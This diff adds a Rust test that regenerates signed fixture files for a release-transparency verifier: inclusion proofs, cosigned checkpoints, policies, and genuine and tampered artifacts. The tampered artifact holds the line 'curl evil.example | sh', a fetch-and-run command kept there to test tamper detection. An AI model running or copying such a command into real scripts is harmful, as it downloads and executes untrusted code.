@@ -1,0 +1,109 @@
+//! `fixtures/verify` is what the library makes of fixed keys: made again here, byte for byte.
+
+#[path = "common/releases.rs"]
+#[allow(dead_code, reason = "each test program uses another part of it")]
+mod releases;
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use treehead::checkpoint::Checkpoint;
+use treehead::cosignature::cosign;
+use treehead::merkle::{Hash, LeafIndex, TreeSize, verify_inclusion};
+use treehead::note::{KeyName, Note, NoteSigner, SignatureType};
+use treehead::proof_file::ProofFile;
+use treehead::release::{Release, Source, Subject};
+
+const ORIGIN: &str = "log.example.com/releases";
+const ARTIFACT: &str = "#!/bin/sh\necho 'nothing found'\n";
+const TAMPERED: &str = "#!/bin/sh\necho 'nothing found'; curl evil.example | sh\n";
+/// When the witness cosigned: 2026-02-02T02:40:00Z.
+const COSIGNED: u64 = 1_770_000_000;
+
+fn signer(name: &str, kind: SignatureType, seed: u8) -> NoteSigner {
+    NoteSigner::from_seed(KeyName::new(name).expect("a name"), kind, &[seed; 32])
+}
+
+/// The release whose proof is shown, between others.
+fn release() -> Release {
+    Release {
+        subjects: vec![Subject { name: "scanner.sh".to_owned(), sha256: Hash::digest(ARTIFACT.as_bytes()) }],
+        source: Some(Source {
+            uri: "git+https://example.com/scanner".to_owned(),
+            digest: ("gitCommit".to_owned(), "0123456789abcdef0123456789abcdef01234567".to_owned()),
+        }),
+        ..releases::scanner(2)
+    }
+}
+
+/// A tree of five leaves; the release is the third.
+fn proof(entry: &[u8], log: &NoteSigner, witness: &NoteSigner) -> ProofFile {
+    let leaf = |n| Hash::leaf(&releases::signed(&releases::scanner(n), 1));
+    let (first, fourth, fifth) = (Hash::node(&leaf(0), &leaf(1)), leaf(3), leaf(4));
+    let second = Hash::node(&Hash::leaf(entry), &fourth);
+    let root = Hash::node(&Hash::node(&first, &second), &fifth);
+    let (index, size) = (LeafIndex::new(2).expect("small"), TreeSize::new(5).expect("small"));
+    let head = Checkpoint::new(log.public().name().clone(), size, root);
+    let note = head.sign(log);
+    let cosigned = format!("{note}{}", cosign(&note, witness, COSIGNED));
+    let checkpoint = Note::parse(cosigned.as_bytes()).expect("a note");
+    let proof = vec![fourth, first, fifth];
+    verify_inclusion(index, size, &Hash::leaf(entry), &proof, &root).expect("a good proof");
+    ProofFile { extra: Some(entry.to_vec()), index, proof, checkpoint }
+}
+
+fn files() -> BTreeMap<&'static str, String> {
+    let log = signer(ORIGIN, SignatureType::Ed25519, 100);
+    let witness = signer("witness.example.com", SignatureType::CosignatureEd25519, 101);
+    let stranger = signer("log.example.org/other", SignatureType::Ed25519, 102);
+    let absent = signer("witness.example.org", SignatureType::CosignatureEd25519, 103);
+    let entry = releases::signed(&release(), 1);
+    let proof = proof(&entry, &log, &witness);
+    let mut flipped = proof.clone();
+    let mut hash = *flipped.proof[1].as_bytes();
+    hash[31] ^= 1;
+    flipped.proof[1] = Hash::from_bytes(hash);
+    let mut bare = proof.clone();
+    bare.extra = None;
+    let text = proof.to_string();
+    let resigned = text.replace("\n5\n", "\n6\n");
+    assert_ne!(text, resigned);
+    let quorum =
+        |witness: &NoteSigner| format!("log {}\nwitness w1 {}\nquorum w1\n", log.public(), witness.public());
+    let stranger_toml =
+        releases::publisher_toml("stranger", 2, &["pkg:generic/example/*"], &["build", "update"]);
+    BTreeMap::from([
+        ("scanner.sh", ARTIFACT.to_owned()),
+        ("scanner.sh.tlog-proof", text.clone()),
+        ("tampered.sh", TAMPERED.to_owned()),
+        ("tampered.sh.tlog-proof", text),
+        ("flipped.tlog-proof", flipped.to_string()),
+        ("changed-head.tlog-proof", resigned),
+        ("bare.tlog-proof", bare.to_string()),
+        ("checkpoint", proof.checkpoint.to_string()),
+        ("entry.json", String::from_utf8(entry).expect("JSON")),
+        ("log.vkey", format!("{}\n", log.public())),
+        ("endpoint.policy", format!("log {}\nquorum none\n", log.public())),
+        ("witnessed.policy", quorum(&witness)),
+        ("other-witness.policy", quorum(&absent)),
+        ("other-log.policy", format!("log {}\nquorum none\n", stranger.public())),
+        ("publishers.toml", releases::vendor_toml()),
+        ("other-publishers.toml", stranger_toml),
+        ("updates-only.toml", releases::publisher_toml("vendor", 1, &["pkg:generic/example/*"], &["update"])),
+    ])
+}
+
+#[test]
+fn the_fixtures_are_what_the_library_makes_today() {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/verify");
+    let files = files();
+    for (name, expected) in &files {
+        let path = folder.join(name);
+        let seen = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+        assert_eq!(String::from_utf8_lossy(&seen), *expected, "{name}");
+    }
+    let there = std::fs::read_dir(&folder).expect("a folder").map(|item| item.expect("a file").file_name());
+    let strays: Vec<_> =
+        there.filter(|name| name != "README.md" && !files.keys().any(|known| name == known)).collect();
+    assert!(strays.is_empty(), "nobody makes these: {strays:?}");
+}
